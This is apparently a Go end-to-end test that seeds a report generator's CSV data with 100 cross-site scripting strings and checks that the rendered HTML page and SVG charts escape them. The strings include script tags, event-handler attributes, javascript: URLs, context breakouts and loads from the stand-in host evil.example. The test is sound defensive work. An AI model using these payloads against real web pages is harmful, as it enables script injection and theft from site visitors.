package e2e

import (
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// injections are 100 texts that would set document.hurt, make an element or
// ask for something wherever one of them was not escaped: 20 ways to run, in
// the forms of 5 places in which a text may stand.
func injections() (out []string) {
	const hurt = "document.hurt=1"
	ways := []string{
		"<script>" + hurt + "</script>", "<ScRiPt src=https://evil.example/x.js></sCrIpT>", "<script type=module>" + hurt + "//",
		"<img src=x onerror=" + hurt + ">", "<img/src='x'/onerror=" + hurt + ">", "<IMG SRC=\"https://evil.example/pixel\">",
		"<svg onload=" + hurt + ">", "<svg><script>" + hurt + "</script></svg>", "<svg><animate onbegin=" + hurt + " attributeName=x dur=1s>",
		"<body onload=" + hurt + ">", "<iframe srcdoc='<script>parent." + hurt + "</script>'></iframe>", "<iframe src=javascript:parent." + hurt + ">",
		"<object data=javascript:" + hurt + ">", "<embed src=https://evil.example/x>", "<details open ontoggle=" + hurt + ">",
		"<input autofocus onfocus=" + hurt + ">", "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
		"<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>",
	}
	for _, place := range []string{"%s", "\"'>%s", "</script></style></title></textarea>%s", "--></svg></desc>%s<!--", "\\\");%s//${" + hurt + "}"} {
		for _, way := range ways {
			out = append(out, fmt.Sprintf(place, way))
		}
	}
	return out
}

// hurtful makes an analysis in which every free text is an injection, runs it
// and returns the folder of its report.
func hurtful(t *testing.T, texts []string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "analysis")
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command(program, args...).CombinedOutput(); err != nil {
			t.Fatalf("headstart %s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	run("init", dir)
	data := filepath.Join(dir, "data")
	for i, text := range texts {
		n := strconv.Itoa(i)
		id, rival, source := "hurt-"+n, "calm-"+n, "source-"+n
		add := func(table string, cells map[string]string) { addRow(t, filepath.Join(data, table+".csv"), cells) }
		add("sources", map[string]string{"source_id": source, "title": text, "publisher": text, "kind": "news", "published_on": "2020-01-01", "url": "https://example.org/" + n})
		add("platforms", map[string]string{"platform_id": id, "name": text + n, "also_known_as": text, "owner": text, "home_market": "WLD"})
		add("platforms", map[string]string{"platform_id": rival, "name": "Calm " + n, "owner": text, "home_market": "WLD"})
		add("events", map[string]string{"platform_id": id, "event": "launch", "date": "2011-01", "market": "WLD", "source_id": source, "note": text})
		for year := range 4 {
			add("observations", map[string]string{"platform_id": id, "metric": "mau", "market": "WLD", "period": strconv.Itoa(2012+year) + "-12",
				"value": strconv.Itoa((1 + year) * (i + 1) * 100_000), "qualifier": "exact", "source_id": source, "quote": text})
		}
		add("races", map[string]string{"race_id": "race-" + n, "market": "WLD", "first_mover": id, "first_launch": "2011-01", "responder": rival,
			"responder_launch": "2012-03", "winner": "first_mover", "decided_by": "2016", "criterion": text, "source_ids": source, "note": text})
		add("owner_networks", map[string]string{"race_id": "race-" + n, "side": "responder", "owner": text, "network": text, "kind": "contact_graph",
			"users": "1000000", "as_of": "2011", "source_id": source, "note": text})
		add("statements", map[string]string{"who": text, "said_on": "2014-01-01", "lead_months_low": "3", "lead_months_high": "6", "win_probability": "0.5", "source_id": source, "quote": text})
		add("observations", map[string]string{"platform_id": text, "metric": text, "period": text, "value": text, "source_id": text, "quote": text}) // rejected, and shown as such
	}
	// More sources than the page lists, and a figure of one that it does not.
	for i := range 2001 {
		addRow(t, filepath.Join(data, "sources.csv"), map[string]string{"source_id": "late-" + strconv.Itoa(i), "title": "Late", "publisher": "~", "kind": "news",
			"published_on": "2020-01-01", "url": "https://example.org/late"})
	}
	addRow(t, filepath.Join(data, "platforms.csv"), map[string]string{"platform_id": "late", "name": "Late", "home_market": "WLD"})
	for _, year := range []string{"2012", "2013", "2014", "2015"} {
		addRow(t, filepath.Join(data, "observations.csv"), map[string]string{"platform_id": "late", "metric": "mau", "market": "WLD", "period": year + "-12",
			"value": "90000000", "qualifier": "exact", "source_id": "late-999", "quote": "late"})
	}
	out := filepath.Join(dir, "out")
	run("run", "--quiet", "--data", data, "--out", out)
	return filepath.Join(out, "latest")
}

// addRow appends a row to a CSV file with a header; cells that are not given
// are empty.
func addRow(t *testing.T, path string, cells map[string]string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_RDWR|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	header, err := csv.NewReader(f).Read()
	if err != nil {
		t.Fatal(err)
	}
	row := make([]string, len(header))
	for i, name := range header {
		row[i] = cells[name]
		delete(cells, name)
	}
	w := csv.NewWriter(f)
	if err := w.Write(row); err != nil || len(cells) > 0 {
		t.Fatalf("%s: no column for %v, %v", path, cells, err)
	}
	w.Flush()
}

// What is in the data is shown and never run, in the page and in its drawings.
func TestHostileTexts(t *testing.T) {
	texts := injections()
	shown := hurtful(t, texts)
	page := addressOf(filepath.Join(shown, "report.html"))
	p := visit(t, page, view{})
	fault := eval[string](p, `async (texts) => {
		for (const d of document.querySelectorAll('details')) d.open = true;
		for (const choice of document.querySelectorAll('.explorer select')) {
			for (const option of [...choice.options].slice(0, 30)) {
				choice.value = option.value;
				choice.dispatchEvent(new Event('input', {bubbles: true}));
				choice.dispatchEvent(new Event('change', {bubbles: true}));
			}
		}
		for (const box of [...document.querySelectorAll('.explorer input[type=checkbox]')].slice(0, 150)) box.click();
		await new Promise((done) => setTimeout(done, 500));
		if (document.hurt) return 'a text of the data ran';
		const made = document.querySelector('img, iframe, object, embed, base, meta[http-equiv=refresh], link[rel=stylesheet], [onload], [onerror], [ontoggle], [onfocus], [onbegin]');
		if (made) return 'a text of the data made ' + made.outerHTML.slice(0, 200);
		if (document.scripts.length !== 3) return 'there are ' + document.scripts.length + ' scripts';
		const all = document.documentElement.textContent;
		const seen = texts.filter((text) => all.includes(text)).length;
		return seen < texts.length ? 'only ' + seen + ' of the texts are in the page: this test shows nothing' : '';
	}`, texts)
	if fault != "" {
		t.Error(fault)
	}
	p.quiet(page)

	drawings, err := filepath.Glob(filepath.Join(shown, "charts", "*.svg"))
	if err != nil || len(drawings) == 0 {
		t.Fatal("no drawings", err)
	}
	for _, drawing := range drawings {
		p := visit(t, addressOf(drawing), view{})
		if eval[bool](p, `() => document.hurt === 1 || document.querySelector('script, foreignObject, [onload], [onbegin]') !== null`) {
			t.Errorf("%s runs a text of the data", filepath.Base(drawing))
		}
		p.quiet(addressOf(drawing))
	}
}
